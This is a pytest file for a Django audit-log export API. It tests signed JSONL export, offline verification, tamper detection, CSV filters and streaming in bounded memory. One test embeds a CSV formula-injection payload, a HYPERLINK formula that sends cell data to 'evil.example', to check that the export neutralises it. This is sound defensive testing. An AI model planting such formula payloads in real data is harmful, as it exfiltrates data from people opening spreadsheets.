"""``GET /v1/logs/export`` (SPEC 5.7): JSONL that verifies offline and agrees with the API,
CSV, filters, and streaming of any size in bounded memory, on the live ASGI server too."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from datetime import timedelta

import httpx
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import timezone

from forensics.export import export_jsonl, export_verify_file
from forensics.models import RequestLog
from forensics.sealing import audit_seal_all
from tests import factories
from tests.api.support import assert_error
from tests.forensics.support import make_logs, record, records_insert_many, tamper

NOW = timezone.now().replace(microsecond=0)


def body_of(response) -> str:
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content).decode()


def jsonl(response) -> list[dict]:
    return [json.loads(line) for line in body_of(response).splitlines()]


def offline(tmp_path, text: str, pem: str) -> tuple[bool, str]:
    """``manage.py verify_audit --file`` on an export, as an auditor without a database runs it."""
    export, key = tmp_path / "export.jsonl", tmp_path / "key.pem"
    export.write_text(text)
    key.write_text(pem)
    out = io.StringIO()
    try:
        call_command("verify_audit", "--file", str(export), "--public-key", str(key), stdout=out)
    except CommandError:
        return False, out.getvalue()
    return True, out.getvalue()


@pytest.fixture
def sealed(tenant):
    """20 sealed records with varied fields (nulls, text, lists), then 2 not sealed yet."""
    rows = [
        record(tenant.id, created_at=NOW - timedelta(minutes=30 - i), status_code=429 if i % 5 == 0 else 200,
               user=f"user{i % 3}@example.com" if i % 4 else None, policy_ids=[f"pol_{i}"], user_agent="curl/8 ünïcode")
        for i in range(20)
    ]  # fmt: skip
    RequestLog.objects.bulk_create(rows)
    assert audit_seal_all() == 20
    pending = make_logs(tenant.id, 2, start=NOW)
    return rows, pending


def test_an_unfiltered_export_verifies_offline_and_agrees_with_the_api(owner_api, sealed, tmp_path):
    rows, pending = sealed
    pem = owner_api.get("/v1/audit/public-key").json()["pem"]

    lines = jsonl(owner_api.get("/v1/logs/export?format=jsonl"))

    header, records = lines[0], [line for line in lines if line["type"] == "record"]
    assert (header["type"], header["complete"], header["public_key"]) == ("export", True, pem)
    assert [r["id"] for r in records] == [r.id for r in rows] + [r.id for r in pending]
    assert [r["seq"] for r in records] == [*range(1, 21), None, None]
    assert lines[-1]["type"] == "checkpoint"
    ok, out = offline(tmp_path, "\n".join(json.dumps(line) for line in lines), pem)
    assert ok, out
    assert "valid, 20 records checked" in out
    online = owner_api.get("/v1/audit/verify").json()
    assert (online["valid"], online["checked"]) == (True, 20)


def test_the_offline_verifier_finds_the_same_broken_record_as_the_api(owner_api, sealed, tmp_path):
    rows, _ = sealed
    pem = owner_api.get("/v1/audit/public-key").json()["pem"]
    victim = RequestLog.objects.get(tenant_id=rows[0].tenant_id, seq=7)
    tamper("UPDATE forensics_requestlog SET prompt_tokens = 999 WHERE id = %s", [victim.id])

    ok, out = offline(tmp_path, body_of(owner_api.get("/v1/logs/export")), pem)
    online = owner_api.get("/v1/audit/verify").json()

    assert not ok
    assert f"BROKEN at {victim.id}" in out
    assert (online["valid"], online["first_invalid"]) == (False, victim.id)


def test_only_an_unfiltered_export_says_it_is_complete(owner_api, sealed):
    rows, _ = sealed
    alice = [r.id for r in rows if r.user == "user1@example.com"]

    lines = jsonl(owner_api.get("/v1/logs/export?user=user1@example.com"))

    assert lines[0]["complete"] is False
    assert [line["id"] for line in lines if line["type"] == "record"] == alice


@pytest.mark.parametrize(
    ("query", "kept"),
    [
        ("status=429", lambda r: r.status_code == 429),
        ("user=user2@example.com", lambda r: r.user == "user2@example.com"),
        ("since={since}", lambda r: r.created_at >= NOW - timedelta(minutes=20)),
        ("until={since}&status=200", lambda r: r.created_at < NOW - timedelta(minutes=20) and r.status_code == 200),
    ],
)
def test_filters_apply_to_both_formats(owner_api, sealed, query, kept):
    rows, pending = sealed
    query = query.format(since=(NOW - timedelta(minutes=20)).isoformat().replace("+00:00", "Z"))
    expected = [r.id for r in [*rows, *pending] if kept(r)]
    assert expected

    in_jsonl = [line["id"] for line in jsonl(owner_api.get(f"/v1/logs/export?{query}")) if line["type"] == "record"]
    in_csv = [
        row["id"] for row in csv.DictReader(io.StringIO(body_of(owner_api.get(f"/v1/logs/export?format=csv&{query}"))))
    ]

    assert in_jsonl == expected
    assert in_csv == expected


def test_csv_has_a_header_and_one_row_per_record(owner_api, sealed):
    rows, pending = sealed

    response = owner_api.get("/v1/logs/export?format=csv")

    table = list(csv.reader(io.StringIO(body_of(response))))
    header, data = table[0], table[1:]
    assert header[:3] == ["id", "tenant_id", "created_at"]
    assert {"user", "status_code", "cost_usd", "policy_ids", "seq", "prev_hash", "chain_hash"} <= set(header)
    assert [row[0] for row in data] == [r.id for r in rows] + [r.id for r in pending]
    first = dict(zip(header, data[0], strict=True))
    assert (first["seq"], first["cost_usd"], first["policy_ids"]) == ("1", "0.00012345", '["pol_0"]')
    assert first["user_agent"] == "curl/8 ünïcode"


def test_csv_defuses_cells_a_spreadsheet_would_run_but_jsonl_keeps_them(owner_api, tenant):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    record(tenant.id, user_agent=formula, user="@alice", conversation_id="-1+1").save()

    row = next(csv.DictReader(io.StringIO(body_of(owner_api.get("/v1/logs/export?format=csv")))))
    line = jsonl(owner_api.get("/v1/logs/export"))[1]

    assert (row["user_agent"], row["user"], row["conversation_id"]) == ("'" + formula, "'@alice", "'-1+1")
    assert (line["user_agent"], line["user"], line["conversation_id"]) == (formula, "@alice", "-1+1")


def test_it_streams_with_a_content_type_and_a_filename(owner_api, tenant):
    make_logs(tenant.id, 1)

    as_jsonl = owner_api.get("/v1/logs/export")
    # The format is the query's; an Accept header naming something else is no reason for a 406.
    as_csv = owner_api.get("/v1/logs/export?format=csv", HTTP_ACCEPT="application/json")

    assert as_jsonl.streaming
    assert as_csv.streaming
    assert as_jsonl["Content-Type"] == "application/x-ndjson"
    assert as_csv["Content-Type"].startswith("text/csv")
    assert as_jsonl["Content-Disposition"].startswith(f'attachment; filename="aidgate-logs-{tenant.id}-')
    assert as_jsonl["Content-Disposition"].endswith('.jsonl"')
    assert as_csv["Content-Disposition"].endswith('.csv"')


@pytest.mark.parametrize(
    ("query", "reason"),
    [("format=xml", "invalid_request"), ("status=x", "invalid_request"), ("limit=10", "unknown_field")],
)
def test_it_refuses_a_bad_export_request(owner_api, query, reason):
    assert_error(owner_api.get(f"/v1/logs/export?{query}"), 400, "invalid_request", reason)


def test_an_export_taken_while_the_sealer_runs_holds_every_record_and_verifies(tenant):
    """The sealer runs every few seconds, so long exports overlap it. A record sealed between
    the export's queries must be in the file once, and a checkpoint signed after the export
    began must not vouch for records the file cannot hold."""
    make_logs(tenant.id, 5, start=NOW - timedelta(hours=1))
    audit_seal_all()
    make_logs(tenant.id, 3, start=NOW - timedelta(minutes=30))
    lines = export_jsonl(RequestLog.objects.filter(tenant_id=tenant.id), tenant_id=tenant.id, complete=True)
    head = [next(lines) for _ in range(6)]  # the header and the five sealed records

    assert audit_seal_all() == 3
    make_logs(tenant.id, 1, start=NOW)
    text = b"".join([*head, *lines]).decode()

    ids = [json.loads(line)["id"] for line in text.splitlines()[1:] if json.loads(line)["type"] == "record"]
    assert sorted(ids) == sorted(RequestLog.objects.filter(tenant_id=tenant.id).values_list("id", flat=True))
    verdict = export_verify_file(text.splitlines, None).verdict
    assert (verdict.valid, verdict.checked) == (True, 8), verdict.problem


def test_it_streams_an_export_of_100k_records_in_bounded_memory_from_the_asgi_server(server_sessions_ended, world):
    """Through the real server: under ASGI, Django would read a plain generator into a list
    before sending a byte. tracemalloc slows every allocation several times over, so it traces
    the first 16 MiB (a quarter of the stream): a buffered body is allocated before its first
    byte, and memory kept per record would already be far past the bound by then."""
    count, traced_bytes = 100_000, 16 * 1024 * 1024
    records_insert_many(world.tenant.id, count, start=NOW - timedelta(days=2))
    _, secret = factories.make_org_key(world.tenant, role="viewer")
    received, lines, peak = 0, 0, None

    tracemalloc.start()
    try:
        with (
            httpx.Client(base_url=world.gateway.url, headers={"Authorization": f"Bearer {secret}"}, timeout=60) as api,
            api.stream("GET", "/v1/logs/export") as response,
        ):
            assert response.headers["content-type"] == "application/x-ndjson"
            for chunk in response.iter_bytes():
                received += len(chunk)
                lines += chunk.count(b"\n")
                if peak is None and received >= traced_bytes:
                    peak = tracemalloc.get_traced_memory()[1]
                    tracemalloc.stop()
    finally:
        tracemalloc.stop()

    assert lines == count + 1  # the header and one line per record (none sealed: no checkpoint)
    assert received > 3 * traced_bytes
    assert peak is not None
    assert peak < 8 * 1024 * 1024, f"peak {peak / 2**20:.1f} MiB while streaming {received / 2**20:.0f} MiB"
